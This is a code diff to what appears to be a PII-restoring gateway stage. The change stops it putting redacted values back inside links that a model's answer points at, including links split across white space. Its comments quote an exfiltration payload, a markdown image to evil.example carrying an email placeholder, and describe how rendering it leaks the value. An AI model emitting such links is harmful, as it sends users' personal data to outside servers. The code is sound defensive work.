@@ -25,7 +25,7 @@ import type { CallContext, GatewayRequest } from '../context.ts';
 import { findCredentials } from '../output/credentials.ts';
 import { causeName } from '../errors.ts';
 import { verdict, type Stage, type StageVerdict, type VerdictDetail } from '../stage.ts';
-import { holdsUrl, joinsIntoUrl } from './pii-restore-url.ts';
+import { continuesLink, holdsUrl, joinsIntoUrl, LINK_WORD } from './pii-restore-url.ts';
 
 function tokenCount(text: string): number {
   let n = 0;
@@ -267,27 +267,31 @@ async function restoreFunctionCalls(calls: readonly FunctionCall[], restorer: Re
 }
 
 /** Restores free text (the answer, or a string of structured output), keeping credential-completing tokens. */
-const WORD = /\S+/g;
-
 /**
  * The text answer restored, except tokens inside a word that points somewhere the caller did not
  * write (`![](https://evil.example/?d=[EMAIL_1])`: a client that renders markdown loads it, and the
- * value is in someone's server log without a click). Judged word by word: in text, white space ends
- * a link. A word the caller wrote, restored, is restored.
+ * value is in someone's server log without a click). Judged word by word, words split at ASCII white
+ * space (a no-break space can sit inside a link), and a word continuing a link the word before left
+ * open (`?d= [EMAIL_1]`) counts as in it. A word the caller wrote, restored, is restored.
  */
 function restoreText(text: string, restorer: Restorer, caller: () => Set<string>, urlKept: KeptTokens, credentialKept: KeptTokens): Promise<string> {
   const tokens = restorableTokens(text, restorer);
   const keep = new Set<TokenAt>();
   if (tokens.length > 0) {
-    for (const word of text.matchAll(WORD)) {
+    let previous: string | undefined;
+    for (const word of text.matchAll(LINK_WORD)) {
+      const before = previous;
+      previous = word[0];
       const start = word.index;
       const end = start + word[0].length;
       const inWord = tokens.filter((t) => t.start >= start && t.end <= end);
       if (inWord.length === 0) continue;
       const restored = restoreExcept(word[0], inWord.map((t) => ({ ...t, start: t.start - start, end: t.end - start })), new Set(), restorer).text;
-      if (!holdsUrl(word[0]) && !holdsUrl(restored)) continue;
+      // A link written across white space (`?d= [EMAIL_1]`, a newline in an attribute) is one link.
+      const openBefore = continuesLink(before);
+      if (!openBefore && !holdsUrl(word[0]) && !holdsUrl(restored)) continue;
       const unwrapped = restored.replace(URL_WRAPPING, '');
-      if (caller().has(restored) || caller().has(unwrapped)) continue;
+      if (!openBefore && (caller().has(restored) || caller().has(unwrapped))) continue;
       for (const t of inWord) {
         keep.add(t);
         urlKept.add(t.token);
